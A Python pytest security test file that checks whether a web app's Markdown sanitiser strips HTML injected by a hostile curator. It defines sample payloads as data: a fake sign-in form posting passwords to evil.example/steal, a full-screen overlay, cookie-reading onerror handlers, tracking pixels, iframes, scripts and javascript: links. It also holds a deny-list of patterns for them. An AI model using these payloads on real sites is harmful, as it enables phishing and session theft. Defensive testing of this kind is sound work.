"""Issue 14 item 8: HTML injection through Markdown. A curator's text on a catalog entry page or a
public demo page cannot bring a working form, an input, a full-screen overlay, an event handler,
an iframe, a script or an external image: every Markdown value is rendered and cleaned by
glasshouse.sanitize (nh3) on the server before it reaches a browser."""

from __future__ import annotations

import re
import shutil
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from glasshouse.sanitize import clean_html, markdown_to_html
from tests.security.content_support import gradio_call

FORM = ('<form action="https://evil.example/steal" method="post">'
        '<input name="password" type="password" placeholder="Password">'
        '<button>Sign in again</button></form>')
OVERLAY = ('<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;'
           'background:white">Your session expired</div>')
HANDLERS = '<img src=x onerror="alert(document.cookie)"><p onmouseover="alert(1)">hover</p>'
EXTERNAL_IMG = '<img src="http://evil.example/pixel.png"> ![pixel](http://evil.example/p2.png)'
OTHER = ('<iframe src="https://evil.example"></iframe><script>alert(1)</script>'
         '<style>*{display:none}</style><a href="javascript:alert(1)">js</a>'
         '<svg onload="alert(1)"></svg><object data="x.swf"></object>'
         '<a href="https://example.org" class="fixed inset-0" id="root">cls</a>')
ATTACKS = {"form": FORM, "overlay": OVERLAY, "handlers": HANDLERS, "external_img": EXTERNAL_IMG,
           "other": OTHER}
ATTACK = "\n\n".join(ATTACKS.values())

# What must not appear in what the server sends to a browser.
FORBIDDEN = [r"<form", r"<input", r"<button", r"<iframe", r"<script", r"<style", r"<svg",
             r"<object", r"<img", r"\sstyle=", r"\son\w+=", r"javascript:", r"position:\s*fixed",
             r"\sclass=", r'\sid="root"', r"evil\.example/pixel\.png\"?\s*>"]


def assert_clean(html: str) -> None:
    found = [p for p in FORBIDDEN if re.search(p, html, re.I)]
    assert not found, (found, html[:1500])


@pytest.mark.parametrize("name", list(ATTACKS))
def test_each_attack_is_removed(name) -> None:
    out = markdown_to_html(ATTACKS[name])
    assert_clean(out)


def test_harmless_markdown_survives() -> None:
    md = ("## Corpus\n\nSome *emphasis*, **strong**, `code <b>`, a < b & c.\n\n"
          "| lang | rows |\n|---|---|\n| en | 3 |\n\n- one\n- two\n\n> a quote\n\n"
          "[licence](https://spdx.org/licenses/MIT.html) <sub>2</sub> H<sup>+</sup>")
    out = markdown_to_html(md)
    for part in ("<h2>Corpus</h2>", "<em>emphasis</em>", "<strong>strong</strong>",
                 "<code>code &lt;b&gt;</code>", "a &lt; b &amp; c", "<table>", "<td>en</td>",
                 "<li>one</li>", "<blockquote>", "<sub>2</sub>", "<sup>+</sup>"):
        assert part in out, (part, out)
    assert ('<a href="https://spdx.org/licenses/MIT.html" rel="noopener nofollow noreferrer">'
            "licence</a>") in out


def test_a_markdown_image_becomes_a_link_and_is_never_fetched() -> None:
    out = markdown_to_html("![pixel](http://evil.example/p.png)")
    assert "<img" not in out
    assert '<a href="http://evil.example/p.png" rel="noopener nofollow noreferrer">pixel</a>' in out


def test_card_anchor_ids_are_kept_but_no_other_id() -> None:
    out = clean_html('<a id="evidence-abc123"></a><a id="root"></a><a id="gradio-app"></a>')
    assert 'id="evidence-abc123"' in out and 'id="root"' not in out and "gradio-app" not in out


def test_every_gradio_markdown_value_is_sanitised() -> None:
    import gradio as gr

    from glasshouse.ui import sanitise_markdown_components

    sanitise_markdown_components()
    assert_clean(gr.Markdown().postprocess(ATTACK))
    assert gr.Markdown(line_breaks=True).postprocess("a\nb") == "<p>a<br>\nb</p>"
    assert gr.Markdown().postprocess(None) is None


# ---------------------------------------------------------------- against the live server


@pytest.fixture(scope="module")
def hostile_app() -> Iterator[tuple[str, str, str]]:
    """`app.py serve` whose database holds a catalog entry and a public demo written by a
    hostile curator."""
    from catalog import service as catalog
    from demos import service as demos
    from demos.spec import DemoSpec
    from glasshouse.app_process import start_app
    from glasshouse.db import Database
    from glasshouse.users import Actor

    data_dir = Path(tempfile.mkdtemp(prefix="glasshouse-sec-html-"))
    db = Database(f"sqlite:///{data_dir / 'glasshouse.db'}")
    db.migrate()
    mallory = Actor("mallory", "curator")
    entry = catalog.create_entry(db, {"name": "Helpful corpus", "languages": ["en"],
                                      "licenses": [{"spdx": "CC-BY-4.0"}],
                                      "description": ATTACK, "quality_notes": FORM},
                                 actor=mallory)
    demo = demos.create_demo(db, DemoSpec(
        title="Try the redactor", description=ATTACK, intended_use=OVERLAY,
        limitations=HANDLERS, task="pii-redaction", model="glasshouse-patterns",
        examples=["Write to ana@example.org"], public=True), actor=mallory)
    db.dispose()
    app = start_app(data_dir)
    try:
        yield app.url, entry.entry.id, demo.slug
    finally:
        app.stop()
        shutil.rmtree(data_dir, ignore_errors=True)


def _call(base: str, api: str, data: list, params: dict | None = None) -> list:
    kind, out = gradio_call(base, api, data, params)
    assert kind == "complete", out
    return out


@pytest.mark.slow
def test_live_catalog_entry_page_carries_no_injected_html(hostile_app) -> None:
    url, entry_id, _ = hostile_app
    page = _call(url, "do_open", [entry_id])[0]
    assert "Helpful corpus" in page and "Sign in again" in page  # the text stays readable
    assert_clean(page)


@pytest.mark.slow
def test_live_public_demo_page_carries_no_injected_html(hostile_app) -> None:
    url, _, slug = hostile_app
    out = _call(url + "/demo", "on_load", [], params={"slug": slug})
    header = out[2]
    assert "Try the redactor" in header and "Your session expired" in header
    assert_clean(header)


def test_error_messages_built_from_user_data_are_shown_as_text() -> None:
    """Gradio renders an error toast's message as HTML; a BadInput naming a hostile column or
    file name must arrive escaped."""
    import gradio as gr

    from glasshouse.errors import BadInput
    from glasshouse.ui import safe

    @safe
    def callback() -> None:
        raise BadInput("no such column", file="data.csv", field=FORM)

    with pytest.raises(gr.Error) as err:
        callback()
    message = err.value.message
    assert "<form" not in message and "<input" not in message
    assert "&lt;form action=\"https://evil.example/steal\"" in message


def test_bare_urls_stay_clickable_and_safe() -> None:
    out = markdown_to_html("**Homepage:** https://example.org/a?b=1&c=2. `https://not.a.link`")
    assert ('<a href="https://example.org/a?b=1&amp;c=2" rel="noopener nofollow noreferrer">'
            "https://example.org/a?b=1&amp;c=2</a>.") in out
    assert "<code>https://not.a.link</code>" in out
    out = markdown_to_html('https://e.org/"onmouseover="alert(1) javascript:alert(2)')
    assert '<a href="https://e.org/" rel="noopener nofollow noreferrer">' in out
    assert not re.search(r"<a[^>]*\son\w+=|href=\"javascript", out)  # text, not attributes
